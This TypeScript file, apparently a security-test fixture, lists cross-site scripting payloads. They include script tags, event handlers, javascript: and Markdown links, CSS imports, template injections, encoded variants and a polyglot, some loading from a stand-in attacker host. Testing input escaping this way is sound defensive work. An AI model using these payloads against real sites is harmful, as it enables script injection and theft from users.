/** The attacker's host: payloads load scripts from it and send data to it. */
export const FOREIGN = "xss.invalid";

const sets = (number: number) => `window.__xss=${number}`;

/**
 * Known attacks: texts that run as a script, or load something, if they are used as markup, link,
 * style or template. Each fits into every field of the product.
 */
export const PAYLOADS: readonly string[] = [
  // Markup
  `<script>${sets(1)}</script>`,
  `"><script>${sets(2)}</script>`,
  `</title><script>${sets(4)}</script>`,
  `</textarea><script>${sets(5)}</script>`,
  `</script><script>${sets(6)}</script>`,
  `<ScRiPt>${sets(7)}</sCrIpT>`,
  `<scr<script>ipt>${sets(8)}</scr</script>ipt>`,
  `<script src=//${FOREIGN}/9.js></script>`,
  `<img src=x onerror=${sets(10)}>`,
  `<img src=//${FOREIGN}/11.png>`,
  `--><img src=x onerror=${sets(12)}><!--`,
  `<svg/onload=${sets(15)}>`,
  `<svg><script>${sets(16)}</script></svg>`,
  `<svg><animate onbegin=${sets(17)} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.__xss=18</script>"></iframe>`,
  `<iframe src=javascript:parent.__xss=19></iframe>`,
  `<object data=//${FOREIGN}/20></object><embed src=//${FOREIGN}/20>`,
  `<details open ontoggle=${sets(21)}>`,
  `<form action=javascript:${sets(24)}><button>Go</button></form>`,
  `<base href=//${FOREIGN}/>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}/">`,
  `<template><img src=x onerror=${sets(27)}></template>`,
  // Markup that changes its meaning when it is parsed twice
  `<noscript><p title="</noscript><img src=x onerror=${sets(28)}>">`,
  `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=${sets(29)}>">`,
  // Attributes
  `" onerror="${sets(30)}" src="x`,
  `" autofocus onfocus="${sets(31)}" x="`,
  `' onmouseover='${sets(32)}`,
  // Links
  `<a href="javascript:${sets(33)}">here</a>`,
  `javascript:${sets(34)}//`,
  `java\tscript:${sets(35)}`,
  `data:text/html,<script>${sets(36)}</script>`,
  `[here](javascript:${sets(37)})`,
  `//${FOREIGN}/38`,
  // Markdown
  `[here](java&#115;cript:${sets(55)})`,
  `[here](<javascript:${sets(56)}>)`,
  `<javascript:${sets(57)}>`,
  `![here](//${FOREIGN}/58.png)`,
  `https://example.com/"onmouseover="${sets(59)}`,
  // Styles
  `<style>@import "//${FOREIGN}/39.css";</style>`,
  `<link rel=stylesheet href=//${FOREIGN}/40.css>`,
  `<p style="background:url(//${FOREIGN}/41.png)">`,
  `red;background:url(//${FOREIGN}/42.png)`,
  `width:expression(${sets(43)})`,
  // Templates and scripts
  `{{constructor.constructor('${sets(44)}')()}}`,
  `\${${sets(45)}}`,
  `';${sets(46)};//\\";${sets(46)};//`,
  `x\u2028${sets(47)}//`,
  "__proto__",
  // Markup that is escaped, encoded or written with unusual characters
  `\\u003cscript\\u003e${sets(49)}\\u003c/script\\u003e`,
  `&lt;script&gt;${sets(50)}&lt;/script&gt;`,
  `%3Cscript%3E${sets(51)}%3C/script%3E`,
  `＜script＞${sets(52)}＜/script＞`,
  `\u202e>tpircs/<${sets(53)}>tpircs<`,
  // All at once
  `jaVasCript:/*\`/*'/*"/**/(${sets(54)})//</titLe/</teXtarEa/--!><sVg/oNloAd=${sets(54)}//>`,
];
